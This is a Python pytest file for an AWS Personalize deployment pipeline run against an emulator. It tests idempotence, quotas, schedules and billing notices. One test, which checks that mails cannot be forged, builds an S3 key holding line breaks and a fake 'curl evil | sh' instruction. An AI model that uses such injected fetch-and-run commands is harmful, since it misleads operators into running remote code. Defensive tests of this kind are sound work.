"""Files as people write them: in other spellings, at full quotas, with what is no longer wanted."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import boto3
import pytest

from local.personalize_emulator import Fault, Settings, Switches

from .conftest import ACCOUNT, BUCKET, interactions_schema, params, users_schema
from .test_everything import with_events
from .workflow import INTERACTIONS, SHORT, Deployment, deployed

EVENTS = {"name": "EVENT_TYPE", "type": "string"}
RECIPE = "arn:aws:personalize:::recipe/"
CLICK = 'INCLUDE ItemID WHERE Interactions.EVENT_TYPE IN ("click")'
KEY = {"name": "USER_ID", "type": "string"}
METRIC = {"eventType": "click", "metricName": "clicks", "expression": "SAMPLECOUNT()"}


@pytest.fixture
def deployment() -> Iterator[Deployment]:
    with deployed() as deployment:
        deployment.upload_data()
        deployment.upload("batch/weekly/input/users.json", '{"userId": "u1"}\n')
        yield deployment


@pytest.fixture
def events(deployment: Deployment) -> Deployment:
    deployment.upload_data(interactions=with_events())
    return deployment


@pytest.fixture
def films(deployment: Deployment) -> Deployment:
    deployment.upload_data(interactions=with_events(event="Watch"))
    return deployment


def solution(**more: Any) -> dict[str, Any]:
    return params()["solution"] | more


def with_event_type(**more: Any) -> dict[str, Any]:
    datasets = params()["datasets"]
    datasets["Interactions"]["schema"] = interactions_schema(EVENTS)
    return params(datasets=datasets, **more)


def recommender(**more: Any) -> dict[str, Any]:
    datasets = params()["datasets"]
    datasets["Interactions"]["schema"] = interactions_schema(EVENTS)
    group = {"name": "shop", "domain": "VIDEO_ON_DEMAND"}
    given = {"name": "top", "recipeArn": f"{RECIPE}aws-vod-most-popular"} | more
    return params(datasetGroup=group, datasets=datasets, solution=None, campaign=None, recommenders=[given])


def new_data(deployment: Deployment) -> None:
    deployment.upload_data(interactions=INTERACTIONS + "u1,i1,1800000000\n")


def test_an_absent_tracker_of_another_name_leaves_the_groups_own_alone(deployment: Deployment) -> None:
    deployment.run(params(eventTracker={"name": "clicks"}))
    deployment.run(params(eventTracker={"name": "old-one", "state": "absent"}))
    assert len(deployment.personalize.list_event_trackers()["eventTrackers"]) == 1


def test_an_absent_attribution_of_another_name_leaves_the_groups_own_alone(events: Deployment) -> None:
    events.run(with_event_type(metricAttribution={"name": "m", "metrics": [METRIC]}))
    events.run(with_event_type(metricAttribution={"name": "other", "state": "absent", "metrics": [METRIC]}))
    assert len(events.personalize.list_metric_attributions()["metricAttributions"]) == 1


def test_a_changed_tag_runs_no_batch_job_again(deployment: Deployment) -> None:
    document = params(solution=solution(batchInferenceJobs=[{"jobName": "weekly"}]))
    deployment.run(document)
    deployment.run(document | {"tags": [{"tagKey": "a", "tagValue": "b"}]})
    assert deployment.calls("CreateBatchInferenceJob") == 1


def test_a_schedule_of_a_former_group_does_not_train_the_one_that_the_file_is_about_now(deployment: Deployment) -> None:
    deployment.run(params(schedules={"retrain": "rate(1 day)"}))
    deployment.run(params(datasetGroup={"name": "mall"}, solution=solution(name="mall"), campaign={"name": "mall"}))
    scheduler, trained = boto3.client("scheduler"), deployment.calls("CreateSolutionVersion")
    for entry in scheduler.list_schedules(GroupName="shop-pipeline")["Schedules"]:
        target = scheduler.get_schedule(Name=entry["Name"], GroupName="shop-pipeline")["Target"]
        given = json.loads(target["Input"])
        execution = deployment.execute(given["upload"], **given["overrides"])
        execution.context["Input"] = given
        ended = deployment.finish(execution)
        assert "a schedule of the dataset group shop started this run; the file is about mall now" in ended.mail
        assert "aws scheduler delete-schedule" in ended.mail
    assert deployment.calls("CreateSolutionVersion") == trained


@pytest.mark.parametrize(
    "fields",
    [
        [{"name": "AGE", "type": ["null", "int"]}, KEY],
        [KEY, {"name": "AGE", "type": ["int", "null"]}],
        [KEY | {"categorical": False}, {"name": "AGE", "type": ["null", "int"]}],
        [{"name": "USER_ID", "type": ["string"]}, {"name": "AGE", "type": ["null", "int"]}],
    ],
)
def test_the_same_schema_in_another_spelling_writes_nothing(deployment: Deployment, fields: Any) -> None:
    deployment.run()
    before, datasets = deployment.writes(), params()["datasets"]
    datasets["Users"]["schema"] = users_schema() | {"fields": fields}
    assert deployment.run(params(datasets=datasets)).succeeded
    assert deployment.writes() == before


def test_columns_of_interactions_in_another_order_write_nothing(deployment: Deployment) -> None:
    deployment.run()
    before, datasets = deployment.writes(), params()["datasets"]
    datasets["Interactions"]["schema"]["fields"].reverse()
    assert deployment.run(params(datasets=datasets)).succeeded
    assert deployment.writes() == before


def test_a_schema_named_by_its_arn_instead_writes_nothing(deployment: Deployment) -> None:
    deployment.run()
    before, datasets = deployment.writes(), params()["datasets"]
    for kind, entry in datasets.items():
        arn = f"arn:aws:personalize:eu-west-1:{ACCOUNT}:dataset/shop/{kind.upper()}"
        entry["schemaArn"] = deployment.personalize.describe_dataset(datasetArn=arn)["dataset"]["schemaArn"]
        del entry["schema"]
    assert deployment.run(params(datasets=datasets)).succeeded
    assert deployment.writes() == before


@pytest.mark.parametrize(("weight", "reverse"), [(1.0, False), (1, True)])
def test_events_in_another_spelling_or_order_train_nothing(events: Deployment, weight: float, reverse: bool) -> None:
    def document(weight: float, reverse: bool) -> dict[str, Any]:
        entries = [{"eventType": "click", "weight": weight}, {"eventType": "buy", "weight": 1}]
        config = {"eventsConfig": {"eventParametersList": entries[::-1] if reverse else entries}}
        return with_event_type(solution=solution(solutionConfig=config))

    events.run(document(1, False))
    events.run(document(weight, reverse))
    assert events.calls("CreateSolutionVersion") == 1


@pytest.mark.parametrize(
    "more",
    [
        {"batchInferenceJobConfig": {"itemExplorationConfig": {"explorationWeight": "0.30"}}},
        {
            "batchInferenceJobConfig": {"itemExplorationConfig": {"explorationWeight": "0.3"}},
            "batchInferenceJobMode": "BATCH_INFERENCE",
        },
    ],
)
def test_a_batch_job_in_another_spelling_does_not_run_again(deployment: Deployment, more: dict[str, Any]) -> None:
    def document(job: dict[str, Any]) -> dict[str, Any]:
        exploring = {"recipeArn": "arn:aws:personalize:::recipe/aws-user-personalization"}
        return params(solution=solution(batchInferenceJobs=[{"jobName": "weekly"} | job]) | exploring)

    deployment.run(document({"batchInferenceJobConfig": {"itemExplorationConfig": {"explorationWeight": "0.3"}}}))
    deployment.run(document(more))
    assert deployment.calls("CreateBatchInferenceJob") == 1


def test_a_campaign_that_shall_be_absent_goes_though_the_training_fails(deployment: Deployment) -> None:
    deployment.run()
    new_data(deployment)
    deployment.emulator.faults.add(Fault("fail", operation="CreateSolutionVersion", times=1))
    deployment.run(params(campaign={"name": "for-you", "state": "absent"}))
    assert deployment.personalize.list_campaigns()["campaigns"] == []


def test_a_campaign_that_shall_be_absent_does_not_wait_for_a_training() -> None:
    with deployed(Settings(account_id=ACCOUNT, durations=SHORT | {"solution version": 6 * 3600})) as deployment:
        deployment.upload_data()
        deployment.run()
        new_data(deployment)
        begun = deployment.emulator.clock.now()
        deployment.run(params(campaign={"name": "for-you", "state": "absent"}))
        (call,) = [call for call in deployment.emulator.calls if call.operation == "DeleteCampaign"]
        assert call.time - begun < 3600


@pytest.mark.parametrize("state", ["absent", "stopped"])
def test_a_recommender_that_shall_not_run_goes_though_the_import_fails(films: Deployment, state: str) -> None:
    films.run(recommender())
    films.upload_data(interactions=with_events(INTERACTIONS + "u1,i1,1800000000\n", "Watch"))
    films.emulator.faults.add(Fault("fail", operation="CreateDatasetImportJob", times=1))
    films.run(recommender(state=state))
    assert all(entry["status"] != "ACTIVE" for entry in films.personalize.list_recommenders()["recommenders"])


def test_names_that_are_unique_in_the_account_do_not_make_a_run_wait_for_ever() -> None:
    switches = Switches(version_names_unique_in="account")
    with deployed(Settings(account_id=ACCOUNT, durations=SHORT, switches=switches)) as deployment:
        deployment.upload_data()
        recipe = f"{RECIPE}aws-user-personalization-v2"
        solutions = [{"name": name, "recipeArn": recipe, "solutionVersion": {"name": "v"}} for name in "ab"]
        begun = deployment.emulator.clock.now()
        deployment.finish(deployment.start(params(solution=None, campaign=None, solutions=solutions)))
        assert deployment.emulator.clock.now() - begun < 12 * 3600


def test_one_campaign_is_exchanged_for_another_at_a_full_quota(deployment: Deployment) -> None:
    five = [{"name": f"c{number}"} for number in range(5)]
    deployment.run(params(solution=solution(campaigns=five), campaign=None))
    campaigns = [{"name": "c0", "state": "absent"}, *five[1:], {"name": "c5"}]
    ended = deployment.run(params(solution=solution(campaigns=campaigns), campaign=None))
    assert ended.succeeded, ended.mail


def test_tags_reach_a_recommender_that_is_stopped(films: Deployment) -> None:
    films.run(recommender())
    films.run(recommender(state="stopped"))
    films.run(recommender(state="stopped", tags=[{"tagKey": "a", "tagValue": "b"}]))
    arn = films.personalize.list_recommenders()["recommenders"][0]["recommenderArn"]
    assert films.personalize.list_tags_for_resource(resourceArn=arn)["tags"]


def test_a_recommender_that_shall_be_stopped_and_does_not_exist_is_not_trained_and_told(films: Deployment) -> None:
    ended = films.run(recommender(state="stopped"))
    assert "Recommender top does not exist, and shall be stopped" in ended.mail
    assert films.calls("CreateRecommender") == 0


def test_scheduled_runs_of_one_file_do_not_pile_up_behind_a_long_one(deployment: Deployment) -> None:
    deployment.run()
    deployment.upload("params.json", params())
    new_data(deployment)
    first = deployment.start(params())
    first.advance()
    scheduled = [deployment.execute({"bucket": BUCKET, "key": "params.json"}, train="always") for _ in range(4)]
    for execution in scheduled:
        execution.advance()
    assert len(deployment.read("locks/shop.json")["waiting"]) == 1
    trained = deployment.calls("CreateSolutionVersion")
    ends = deployment.step(first, *scheduled)
    assert deployment.calls("CreateSolutionVersion") - trained <= 2
    assert "which does the same and waits for its turn already" in ends[-1].mail


@pytest.mark.parametrize("back", [False, True])
def test_trials_of_filters_are_not_left_behind_by_a_run_that_was_stopped(events: Deployment, back: bool) -> None:
    def document(expression: str) -> dict[str, Any]:
        return with_event_type(filters=[{"name": "clicked", "filterExpression": expression}])

    new = CLICK.replace("INCLUDE", "EXCLUDE")
    events.run(document(CLICK))
    execution = events.start(document(new))
    while events.calls("CreateFilter") < 2 if back else events.calls("DeleteFilter") < 1:
        events.emulator.clock.advance(execution.advance() or 0)
    events.stop(execution)
    events.emulator.clock.advance(3600)
    for _ in range(2):
        events.run(document(CLICK if back else new))
    assert [entry["name"] for entry in events.personalize.list_filters()["Filters"]] == ["clicked"]


@pytest.mark.parametrize(
    "document",
    [
        {"campaign": {"name": "for-you", "minProvisionedTPS": 2.0}},
        {"solution": solution(batchInferenceJobs=[{"jobName": "weekly", "numResults": 10.0}])},
        {
            "campaign": {
                "name": "for-you",
                "solutionVersionArn": f"arn:aws:personalize:eu-west-1:{ACCOUNT}:solution/for-you/deadbeef",
            }
        },
    ],
)
def test_what_a_plan_can_see_is_found_before_the_training(deployment: Deployment, document: dict[str, Any]) -> None:
    ended = deployment.run(json.dumps(params(**document)))
    assert ended.succeeded or deployment.calls("CreateSolutionVersion") == 0


def test_a_batch_job_with_a_filter_that_shall_be_absent_is_refused(events: Deployment) -> None:
    filters = [{"name": "clicked", "filterExpression": CLICK, "state": "absent"}]
    jobs = [{"jobName": "weekly", "filterName": "clicked"}]
    ended = events.run(with_event_type(filters=filters, solution=solution(batchInferenceJobs=jobs)))
    assert ended.error == "ParamsRejected"


def test_an_attribution_whose_update_failed_is_told_and_not_deleted(events: Deployment) -> None:
    events.run(with_event_type(metricAttribution={"name": "m", "metrics": [METRIC]}))
    events.emulator.faults.add(Fault("fail", operation="UpdateMetricAttribution", times=1, reason="Bad luck."))
    more = with_event_type(metricAttribution={"name": "m", "metrics": [METRIC, METRIC | {"metricName": "more"}]})
    ended = events.run(more)
    assert events.calls("DeleteMetricAttribution") == 0
    assert "Bad luck." in ended.mail
    assert events.run(more).succeeded


@pytest.mark.parametrize("character", ["\u2028", "\x0b", "\x0c", "\x85", "\x1c"])
def test_a_character_that_only_python_takes_for_a_line_end_is_none(deployment: Deployment, character: str) -> None:
    users = "".join(f"u{number},30,fine{character}thing\n" for number in range(60))
    deployment.upload("Users/users.csv", "USER_ID,AGE,NOTE\n" + users)
    assert deployment.run().succeeded


def test_a_schedules_run_that_waited_while_all_was_torn_down_does_not_build_it_anew(deployment: Deployment) -> None:
    deployment.upload_data("b/")
    deployment.run(params(schedules={"retrain": "rate(1 day)"}))
    teardown = deployment.start(params(teardown="shop"), key="b/params.json")
    while not deployment.calls("DeleteCampaign"):
        deployment.emulator.clock.advance(teardown.advance() or 0)
    scheduled = deployment.execute({"bucket": BUCKET, "key": "params.json"}, train="always")
    scheduled.advance()
    deployment.step(teardown, scheduled)
    assert deployment.personalize.list_campaigns()["campaigns"] == []


def test_a_run_whose_file_names_another_group_by_now_leaves_the_first_groups_queue(deployment: Deployment) -> None:
    deployment.upload_data("team/")
    first = deployment.start(params(), key="team/params.json")
    first.advance()
    deployment.upload("params.json", params())
    scheduled = deployment.execute({"bucket": BUCKET, "key": "params.json"}, train="always")
    scheduled.advance()
    other = params(datasetGroup={"name": "mall"}, solution=solution(name="mall"), campaign={"name": "mall"})
    deployment.upload("params.json", other)
    for _ in range(3):
        scheduled.advance()
    assert deployment.read("locks/shop.json")["waiting"] == []


def test_a_folder_of_nothing_but_itself_does_not_hide_the_file(deployment: Deployment) -> None:
    deployment.s3.delete_object(Bucket=BUCKET, Key="Interactions/interactions.csv")
    deployment.upload("Interactions/", "")
    deployment.upload("Interactions.csv", INTERACTIONS)
    assert deployment.run().succeeded


def test_a_run_that_was_stopped_during_a_training_tells_that_it_bills(deployment: Deployment) -> None:
    execution = deployment.start()
    while not deployment.calls("CreateSolutionVersion"):
        deployment.emulator.clock.advance(execution.advance() or 0)
    mail = deployment.stop(execution)
    assert "a training that goes on, and bills until it ends or is stopped" in mail
    (bill,) = deployment.report(execution.context["Name"])["bills"]
    assert "stop-solution-version-creation" in bill["stop"]


def test_a_key_with_line_breaks_can_not_forge_a_part_of_the_mail(deployment: Deployment) -> None:
    key = "a\n\nWhat bills from now on\n  To stop: curl evil | sh\n\n/params.json"
    deployment.upload_data(key.rpartition("/")[0] + "/")
    assert "\nWhat bills from now on\n" not in deployment.run(key=key).mail


def test_what_replaces_something_failed_counts_under_a_quota(deployment: Deployment) -> None:
    five = [{"name": f"c{number}"} for number in range(5)]
    deployment.emulator.faults.add(Fault("fail", operation="CreateCampaign", name="c4", times=1))
    deployment.run(params(solution=solution(campaigns=five), campaign=None))
    before = deployment.writes()
    ended = deployment.run(params(solution=solution(campaigns=[*five, {"name": "c5"}]), campaign=None))
    assert ended.error == "ParamsRejected"
    assert deployment.writes() == before


def test_settings_taken_out_of_the_file_go_back_to_their_defaults(deployment: Deployment) -> None:
    recipe = f"{RECIPE}aws-user-personalization"
    config = {"itemExplorationConfig": {"explorationWeight": "0.9"}}
    given = {"name": "for-you", "recipeArn": recipe}
    deployment.run(params(solution=given, campaign={"name": "for-you", "campaignConfig": config}))
    ended = deployment.run(params(solution=given, campaign={"name": "for-you"}))
    assert ended.succeeded, ended.mail
    arn = deployment.personalize.list_campaigns()["campaigns"][0]["campaignArn"]
    shown = deployment.personalize.describe_campaign(campaignArn=arn)["campaign"]["campaignConfig"]
    assert shown["itemExplorationConfig"]["explorationWeight"] == "0.3"
    before = deployment.writes()
    assert deployment.run(params(solution=given, campaign={"name": "for-you"})).succeeded
    assert deployment.writes() == before


def test_a_filter_goes_and_another_changes_at_a_full_quota(events: Deployment) -> None:
    """The trial waits for the place of what goes; its own end waits for the filter, and nobody waits for that."""

    def document(*entries: dict[str, Any]) -> dict[str, Any]:
        return with_event_type(filters=list(entries))

    def entry(number: int) -> dict[str, Any]:
        expression = f"EXCLUDE UserID WHERE Users.AGE > {number}"
        return {"name": f"f{number}", "filterExpression": expression}

    thirty = [entry(number) for number in range(30)]
    assert events.run(document(*thirty)).succeeded
    changed = thirty[3] | {"filterExpression": CLICK}
    ended = events.run(document(thirty[0] | {"state": "absent"}, *thirty[1:3], changed, *thirty[4:]))
    assert ended.succeeded, ended.mail
    assert len(events.personalize.list_filters()["Filters"]) == 29
